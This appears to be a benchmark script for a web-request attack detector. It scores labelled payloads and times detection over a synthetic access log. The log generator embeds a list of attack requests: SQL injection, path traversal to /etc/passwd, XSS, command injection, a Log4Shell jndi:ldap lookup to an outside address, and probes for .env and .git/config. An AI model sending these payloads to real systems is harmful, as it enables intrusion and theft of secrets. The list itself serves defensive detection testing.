// Detection: precision and recall of request scoring on labelled payloads and on a rule set's own tests, and the cost of all our methods and rules
// and the public rules for web servers (where they are at hand) over N lines (default 10,000,000), beside the time the same process needs to read them.
//   npm run bench detect [EVENTS] [THREADS] [steps]
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { bench as coreRules } from './detect-crs.mjs';
import { openWebCase } from './made/web-case.mjs';

const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
const data = path.join(root, '..', 'shared', 'data');
const built = file => import(pathToFileURL(path.join(root, 'dist', file)).href);

export async function bench([events = '10000000', threads = '2', steps = '']) {
  const { scoreRequest } = await built('detections/requests/score-request.js');
  payloads(scoreRequest);
  await coreRules();
  if (Number(events) > 0) {
    const child = spawnSync(process.execPath, ['--max-old-space-size=2048', fileURLToPath(import.meta.url), events, threads, steps], {
      encoding: 'utf8',
      stdio: ['ignore', 'inherit', 'inherit'],
    });
    if (child.status !== 0) throw new Error('the measuring process failed');
  }
}

/** One value, as the value of a parameter. */
function payloads(scoreRequest) {
  const file = path.join(data, 'payloads', 'payload_test.csv');
  if (!fs.existsSync(file)) return console.log('payloads        not at hand');
  const rows = [...fs.readFileSync(file, 'utf8').matchAll(/"((?:[^"]|"")*)","\d+","([a-z-]+)","(?:norm|anom)"/g)].map(m => ({
    text: m[1].replaceAll('""', '"'),
    type: m[2],
  }));
  const families = { sqli: 'sqli', xss: 'xss', 'path-traversal': 'path-traversal', cmdi: 'command-injection' };
  const top = rows.map(r => scoreRequest({ target: `/p?v=${encodeURIComponent(r.text)}` })[0]?.family ?? 'none');
  console.log(`payload_test    ${rows.length} values; harmless flagged: ${rows.filter((r, i) => r.type === 'norm' && top[i] !== 'none').length}`);
  for (const [type, family] of Object.entries(families)) {
    const n = rows.filter(r => r.type === type).length;
    const right = rows.filter((r, i) => r.type === type && top[i] === family).length;
    const named = top.filter(t => t === family).length;
    const attack = rows.filter((r, i) => r.type === type && top[i] !== 'none').length;
    console.log(
      `  ${type.padEnd(15)} n ${String(n).padStart(5)}   recall ${(right / n).toFixed(4)}   precision ${(right / named).toFixed(4)}   seen as some attack ${(attack / n).toFixed(4)}`,
    );
  }
}

/** The measured process: the same file read into events and then detected, with the whole stage and all public rules for web servers. */
async function cost(events, threads, steps) {
  const load = name => built(`${name}/index.js`);
  const [{ collectEvidence }, { readEvents }, { Engine, sql }, { detect }] = await Promise.all(['evidence', 'events', 'engine', 'detections'].map(load));
  const { readRuleFolder } = await built('detections/sigma/rule-folder.js');
  const dir = path.join(os.tmpdir(), 'tadasu-bench', 'detect');
  fs.mkdirSync(dir, { recursive: true });
  const log = '/tmp/h/speed7/uu/requests-uuid.log';
  if (!fs.existsSync(log)) writeRequests(log, events);
  cache(log); // into the page cache
  const timings = new Map();
  if (steps) timeSteps(Engine, timings);
  const format = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{session}C"';
  const { kase, engine, effects } = await openWebCase(load, { log, format, threads, memory: '2GB' });
  const timed = async body => {
    const cpu = process.cpuUsage();
    const start = process.hrtime.bigint();
    const value = await body();
    const { user, system } = process.cpuUsage(cpu);
    return { wall: Number(process.hrtime.bigint() - start) / 1e9, cpu: (user + system) / 1e6, value };
  };
  const show = (name, t, more = '') =>
    console.log(`${name.padEnd(16)}${t.wall.toFixed(2).padStart(7)} s   processor ${t.cpu.toFixed(2).padStart(7)} s   ${more}`);
  await collectEvidence(kase, effects);
  const ingest = await timed(() => readEvents(kase, effects));
  show('ingest', ingest, `${ingest.value.events} events, ${threads} threads`);
  const folder = path.join(data, 'sigma');
  let rules = null;
  if (fs.existsSync(folder)) {
    const read = readRuleFolder(folder);
    rules = { ...read, rules: read.rules.filter(r => r.logsource.category === 'webserver'), correlations: [], unsupported: [] };
  }
  console.log(`public rules    ${rules === null ? 'not at hand' : `${rules.rules.length} for web servers`}`);
  const all = await timed(() => detect(kase, effects, rules));
  show('detection', all, `${all.value.detections} detections, ${all.value.events} events`);
  console.log(`detection/ingest ${(all.wall / ingest.wall).toFixed(3)} by the clock, ${(all.cpu / ingest.cpu).toFixed(3)} by processor time (aim 0.25)`);
  console.log(`peak memory     ${(process.resourceUsage().maxRSS / 1024).toFixed(0)} MB (aim 3072)`);
  for (const [step, t] of [...timings].sort((a, b) => b[1] - a[1])) if (t > 0.05) console.log(`  ${t.toFixed(2).padStart(7)} s  ${step}`);
  if (steps)
    console.log(
      `fingerprint     ${(await engine.row('bench.print', sql`select md5(string_agg(d::varchar, chr(10) order by detection_id)) as m from detection d`)).m}`,
    );
  engine.close();
}

/** Read a file in pieces: one of more than 2 GB is no single buffer. */
function cache(file) {
  const piece = Buffer.alloc(1 << 24);
  const fd = fs.openSync(file, 'r');
  while (fs.readSync(fd, piece) > 0);
  fs.closeSync(fd);
}

/** Processor time by the name of a step, of everything the engine does. */
function timeSteps(Engine, timings) {
  const spent = () => {
    const { user, system } = process.cpuUsage();
    return (user + system) / 1e6;
  };
  const add = (step, start) => timings.set(step, (timings.get(step) ?? 0) + spent() - start);
  const { stream } = Engine.prototype;
  for (const name of ['run', 'rows']) {
    const method = Engine.prototype[name];
    Engine.prototype[name] = async function (step, fragment) {
      const start = spent();
      try {
        return await method.call(this, step, fragment);
      } finally {
        add(step, start);
      }
    };
  }
  Engine.prototype.stream = async function* (step, fragment) {
    const batches = stream.call(this, step, fragment);
    for (;;) {
      const start = spent();
      const { value, done } = await batches.next();
      add(step, start);
      if (done) return;
      yield value;
    }
  };
}

/**
 * A site of 60,000 visitors, a third with a session, who look at pages, records, search results and sign in; among a million requests about three
 * hundred attacks of many kinds, a scanner and a walk over records. Deterministic.
 */
function writeRequests(file, n) {
  let seed = 7;
  const pick = max => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) % max;
  const months = ['Sep', 'Oct', 'Nov'];
  const two = v => String(v).padStart(2, '0');
  const agents = Array.from(
    { length: 400 },
    (_, i) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${90 + (i % 60)}.0.${i}.0 Safari/537.36`,
  );
  const attacks = [
    '/search?q=1%27%20OR%20%271%27=%271',
    '/search?q=1%27+UNION+SELECT+NULL,login,password+FROM+users--',
    "/search?q=x'+AND+SLEEP(5)--+-",
    '/download?file=../../../../etc/passwd',
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/index.php?page=php://filter/convert.base64-encode/resource=config',
    '/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd',
    '/?x=${jndi:ldap://203.0.113.9/a}',
    '/.env',
    '/wp-login.php',
    '/.git/config',
    '/actuator/env',
  ];
  const out = fs.openSync(`${file}.tmp`, 'w');
  let text = '';
  for (let i = 0; i < n; i++) {
    const at = Math.floor(i / 40);
    const day = Math.floor(at / 86400);
    const stamp = `${two((day % 28) + 1)}/${months[Math.floor(day / 28) % 3]}/2026:${two(Math.floor(at / 3600) % 24)}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)} +0900`;
    let who = pick(60_000);
    const kind = pick(100);
    let target;
    let status = pick(97) === 0 ? 404 : 200;
    let method = 'GET';
    if (pick(3333) === 0) {
      who = 60_000 + pick(20);
      target = attacks[pick(attacks.length)];
      status = pick(3) === 0 ? 200 : 404;
    } else if (pick(5000) === 0) {
      who = 60_020;
      target = `/customers/${100_000 + Math.floor(i / 5000)}`;
    } else if (kind < 12) target = '/';
    else if (kind < 16) [target, method, status] = ['/login', pick(2) === 0 ? 'POST' : 'GET', pick(12) === 0 ? 401 : 200];
    else if (kind < 34) target = `/customers/${pick(300_000)}`;
    else if (kind < 45) target = '/static/app.css';
    else if (kind < 56) target = `/search?q=${pick(1 << 24).toString(16)}`;
    else if (kind < 58) target = `/search?q=%E3%83%9A%E3%83%83%E3%83%88+${pick(9999)}`;
    else if (kind < 68) target = `/customers/${pick(300_000)}/claims`;
    else if (kind < 71) target = `/api/v1/items?page=${pick(20)}&size=50`;
    else if (kind < 72) target = `/reports/${pick(50)}/export.csv`;
    else target = '/menu';
    const agent = who === 60_020 ? 'curl/8.5.0' : agents[(who * 7) % 400];
    text += `198.${who % 200}.${Math.floor(who / 200) % 250}.${Math.floor(who / 50_000)} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${200 + pick(9000)} "${kind < 50 ? 'https://www.example.jp/menu' : '-'}" "${agent}" "${who % 3 === 0 ? `s${(who * 2654435761) >>> 0}` : '-'}"\n`;
    if (text.length > 1 << 22) {
      fs.writeSync(out, text);
      text = '';
    }
  }
  fs.writeSync(out, text);
  fs.closeSync(out);
  fs.renameSync(`${file}.tmp`, file);
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await cost(Number(process.argv[2]), Number(process.argv[3]), process.argv[4] === 'steps');
